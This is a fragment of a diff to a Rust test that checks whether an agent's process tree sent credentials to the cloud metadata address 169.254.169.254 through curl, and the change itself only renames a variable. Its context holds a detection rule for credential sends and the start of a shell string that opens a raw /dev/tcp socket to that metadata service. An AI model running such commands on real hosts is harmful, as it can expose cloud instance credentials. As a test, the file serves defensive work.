@@ -134,9 +134,9 @@ pub fn what_is_answered_is_followed() {
     count(&again, 1, "answers");
     // To ask again is no use of what was given before.
     let to_service = |e: &Event| e.is("credential_sent") && e.peer().0 == "169.254.169.254";
-    let mut told = agent.tree(root);
-    told.retain(|e| to_service(e) && e.executable().ends_with("/curl"));
-    assert!(told.is_empty(), "{}", list(&told));
+    let mut reported = agent.tree(root);
+    reported.retain(|e| to_service(e) && e.executable().ends_with("/curl"));
+    assert!(reported.is_empty(), "{}", list(&reported));
     // By whoever reads it: the one who asked has given away the socket.
     network.say(
         "exec 3<>/dev/tcp/169.254.169.254/80; sleep 1; \
